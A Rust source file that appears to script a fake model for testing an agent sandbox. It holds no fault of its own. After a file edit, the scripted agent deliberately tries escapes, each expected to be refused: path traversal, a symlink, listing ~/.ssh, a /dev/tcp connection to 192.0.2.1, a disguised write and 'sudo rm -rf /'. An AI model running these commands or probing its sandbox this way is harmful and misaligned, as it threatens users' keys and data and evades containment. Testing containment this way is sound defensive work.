//! What the scripted model says and calls, turn by turn.

use std::collections::VecDeque;

use serde_json::{Value, json};

use crate::model::{ModelClient, ModelError, Reply, Request, ToolCall};

/// A call that is meant to be refused.
#[derive(Clone, Copy)]
pub(super) struct Attempt {
    /// `inner` or `outer`.
    pub(super) wall: &'static str,
    /// By what, in words.
    pub(super) what: &'static str,
    /// Stands in the result of one that was made and refused.
    pub(super) sign: &'static str,
}

struct Turn {
    says: &'static str,
    calls: Vec<(&'static str, Value, Option<Attempt>)>,
}

/// Answers every request with its next turn.
pub(super) struct Script(VecDeque<Turn>);

impl Script {
    pub(super) fn new() -> Self {
        let path = Attempt {
            wall: "inner",
            what: "the path leads out of the workspace; nobody is asked",
            sign: "is outside the workspace.",
        };
        let denylist = Attempt { wall: "inner", what: "the denylist; nobody is asked", sign: "(denylist)" };
        // By a command that ran, and failed.
        let outer = |what| Some(Attempt { wall: "outer", what, sign: "[exit " });
        let turn = |says, calls| Turn { says, calls };
        Self(VecDeque::from([
            turn(
                "I look at the workspace first.",
                vec![("list_directory", json!({}), None), ("read_file", json!({"path": "prices.txt"}), None)],
            ),
            turn(
                "The first price should be 340. You see the difference, and decide.",
                vec![("edit_file", json!({"path": "prices.txt", "old_text": "320", "new_text": "340"}), None)],
            ),
            turn(
                "I look at what is there now. A command that says it only reads is held to that, so nobody is asked.",
                vec![("run_command", json!({"command": "cat prices.txt", "read_only": true}), None)],
            ),
            turn(
                "Now I try to get out: by a path, by a link that I make, by a command.",
                vec![
                    ("read_file", json!({"path": "../outside/secret.txt"}), Some(path)),
                    ("run_command", json!({"command": "ln -s ../outside door"}), None),
                    ("read_file", json!({"path": "door/secret.txt"}), Some(path)),
                    (
                        "run_command",
                        json!({"command": "cat ../outside/secret.txt door/secret.txt", "read_only": true}),
                        outer("the kernel lets nothing outside be read"),
                    ),
                ],
            ),
            turn(
                "Your keys, and the network.",
                vec![
                    (
                        "run_command",
                        json!({"command": "ls -A ~/.ssh", "read_only": true}),
                        outer("the kernel does not show what is in your home directory"),
                    ),
                    (
                        "run_command",
                        json!({"command": "bash -c 'at=/dev/tcp/192.0.2.1; echo hello > $at/80'", "read_only": true}),
                        outer("there is no network"),
                    ),
                    (
                        "run_command",
                        json!({"command": "rm prices.txt", "read_only": true}),
                        outer("a command that only reads cannot write"),
                    ),
                    ("run_command", json!({"command": "sudo rm -rf /"}), Some(denylist)),
                ],
            ),
            turn("Nothing got out.", Vec::new()),
        ]))
    }

    /// What each call is meant to meet, in their order.
    pub(super) fn attempts(&self) -> VecDeque<Option<Attempt>> {
        self.0.iter().flat_map(|turn| turn.calls.iter().map(|(_, _, attempt)| *attempt)).collect()
    }
}

impl ModelClient for Script {
    fn complete(&mut self, _: &Request) -> Result<Reply, ModelError> {
        let Some(Turn { says, calls }) = self.0.pop_front() else { return Ok(Reply::default()) };
        let call = |(name, arguments, _): (&str, Value, Option<Attempt>)| ToolCall {
            id: String::new(),
            name: name.to_owned(),
            arguments: arguments.to_string(),
        };
        Ok(Reply { content: says.to_owned(), tool_calls: calls.into_iter().map(call).collect(), cut: false })
    }
}
